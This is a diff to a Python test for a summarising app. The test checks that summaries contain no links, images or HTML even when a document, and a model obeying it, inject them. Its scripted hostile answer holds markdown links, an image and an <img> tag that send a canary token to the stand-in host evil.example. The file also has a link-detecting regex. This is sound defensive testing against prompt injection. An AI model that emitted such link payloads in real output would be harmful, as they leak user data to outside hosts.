@@ -1,7 +1,7 @@
 """Summaries carry no links, images or HTML, even when the document and the model want them.
 
-The model is Ollama's API served locally (``tests.fake_ollama``), so the real client and
-the real map-reduce run while the model deterministically obeys the document.
+The model is the scripted backend (``tests.scripted_chat``), built by the real factory, so
+the real map-reduce runs while the model deterministically obeys the document.
 """
 
 from __future__ import annotations
@@ -12,7 +12,7 @@ from pathlib import Path
 from app.api import Docent
 from app.settings import Settings
 from models.embedder import Embedder
-from tests.fake_ollama import Behaviour, FakeModel, FakeOllama
+from tests.scripted_chat import Script, scripted_settings
 
 EVIL = "http://evil.example"
 CANARY = "KXSUMCANARY7F3A"
@@ -21,7 +21,7 @@ LINK = re.compile(r"!\[|\]\(|</?[A-Za-z!]|\b[a-z][a-z0-9+.-]*://|\bwww\.", re.IG
 
 
 def test_summary_and_notes_are_plain_text_when_a_document_asks_for_links(
-    tmp_path: Path, embedder: Embedder
+    tmp_path: Path, embedder: Embedder, scripted_chat: Script
 ) -> None:
     share = tmp_path / "share"
     share.mkdir()
@@ -38,18 +38,11 @@ def test_summary_and_notes_are_plain_text_when_a_document_asks_for_links(
         f"[details]({EVIL}/l?c={CANARY}) <img src='{EVIL}/i.gif?c={CANARY}'> "
         f"<a href='{EVIL}'>more</a> see {EVIL}/t?c={CANARY}\n\n[ref]: {EVIL}/r?c={CANARY}"
     )
-    with FakeOllama([FakeModel("qwen2.5:1.5b")]) as server:
-        settings = Settings(
-            data_dir=tmp_path / "data",
-            chat_backend="ollama",
-            chat_model="qwen2.5:1.5b",
-            chat_base_url=server.url,
-        )
-        docent = Docent(settings, embedder=embedder)
-        assert docent.ingest([share], "docs").exit_code == 0
-        server.behaviour = Behaviour(answer=hostile)
-        summary = docent.summarize("docs", "notice.md")
-        asked = server.requests.bodies("/api/chat")
+    docent = Docent(scripted_settings(Settings(data_dir=tmp_path / "data")), embedder=embedder)
+    assert docent.ingest([share], "docs").exit_code == 0
+    scripted_chat.enqueue(hostile, hostile)
+    summary = docent.summarize("docs", "notice.md")
+    asked = scripted_chat.prompts
 
     assert len(asked) == summary.calls >= 2  # the part was read, then combined: both cleaned
     assert summary.notes
@@ -58,4 +51,4 @@ def test_summary_and_notes_are_plain_text_when_a_document_asks_for_links(
         assert CANARY not in text and "evil.example" not in text, text
         assert "The canteen opens at 07:15 [1]." in text
     # The combining round is fed the cleaned note, not the model's links.
-    assert CANARY not in str(asked[-1]["messages"][-1]["content"])
+    assert CANARY not in str(asked[-1][-1].content)
